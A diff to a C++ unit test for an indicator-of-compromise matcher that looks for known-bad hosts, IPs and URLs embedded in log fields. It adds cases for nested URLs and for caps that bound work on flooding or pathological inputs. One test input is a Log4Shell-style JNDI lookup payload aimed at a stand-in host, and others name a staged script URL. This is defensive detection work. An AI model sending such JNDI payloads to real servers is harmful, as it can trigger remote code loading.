@@ -115,9 +115,40 @@ TEST(IocStoreTest, IndicatorsWrittenInsideAPayloadOrAMessage) {
             (V{"url.original=evil.example"}));
   EXPECT_EQ(found("/x?r=203.0.113.77", "${jndi:ldap://evil.example:1389/a}", true),
             (V{"url.original=203.0.113.0/24", "user_agent.original=evil.example"}));
+  // A digit before the scheme, a URL inside another's query.
+  EXPECT_EQ(found("/x?c=1http://drop.test/stage2.sh", "-", true),
+            (V{"url.original=drop.test/stage2.sh"}));
+  EXPECT_EQ(found("/x?next=http://a.test/?u=http://drop.test/stage2.sh", "-", true),
+            (V{"url.original=drop.test/stage2.sh"}));
   // Near misses: a longer name, a version number, a file name, an address in another /24.
   EXPECT_EQ(found("/notevil.example/theme2.css?v=17.2.1&ip=198.51.100.90", "-", true), V{});
   EXPECT_EQ(found("/x?u=evil-example.test&n=198.51.100.9.5", "-", true), V{});
+
+  // A text naming a whole feed raises a handful; in a text of URLs inside URLs ("a://a://...")
+  // 64 are looked up at most, and each byte is read for a URL's end once (MatchEmbeddedIn).
+  std::string listing = "/x?ips=";
+  for (int i = 0; i < 256; ++i) listing += "203.0.113." + std::to_string(i) + ",";
+  EXPECT_EQ(found(listing, "-", true).size(), 1u) << "one network indicator, named once";
+  IocStore many;
+  for (int i = 0; i < 40; ++i) {
+    ASSERT_TRUE(many.Add(IocType::kIp, "198.51.100." + std::to_string(i), "f", 0).ok());
+  }
+  ASSERT_TRUE(many.Add(IocType::kUrl, "http://drop.test/x", "f", 0).ok());
+  Event flood;
+  std::string addresses;
+  for (int i = 0; i < 40; ++i) addresses += "198.51.100." + std::to_string(i) + " ";
+  flood.SetCopy(Field::kMessage, addresses);
+  std::vector<IocMatch> capped;
+  many.MatchEmbedded(flood, false, kNow, &capped);
+  EXPECT_EQ(capped.size(), 16u);
+  std::string nested;
+  while (nested.size() < IocStore::kMaxEmbeddedText) nested += "a://";
+  nested += "drop.test/x";
+  Event slow;
+  slow.SetCopy(Field::kMessage, nested);
+  capped.clear();
+  many.MatchEmbedded(slow, false, kNow, &capped);
+  EXPECT_TRUE(capped.empty()) << "past the 16 KiB read, and past the 64 URLs looked up";
 
   // A message (syslog, JSON lines) is always read.
   Event ev;
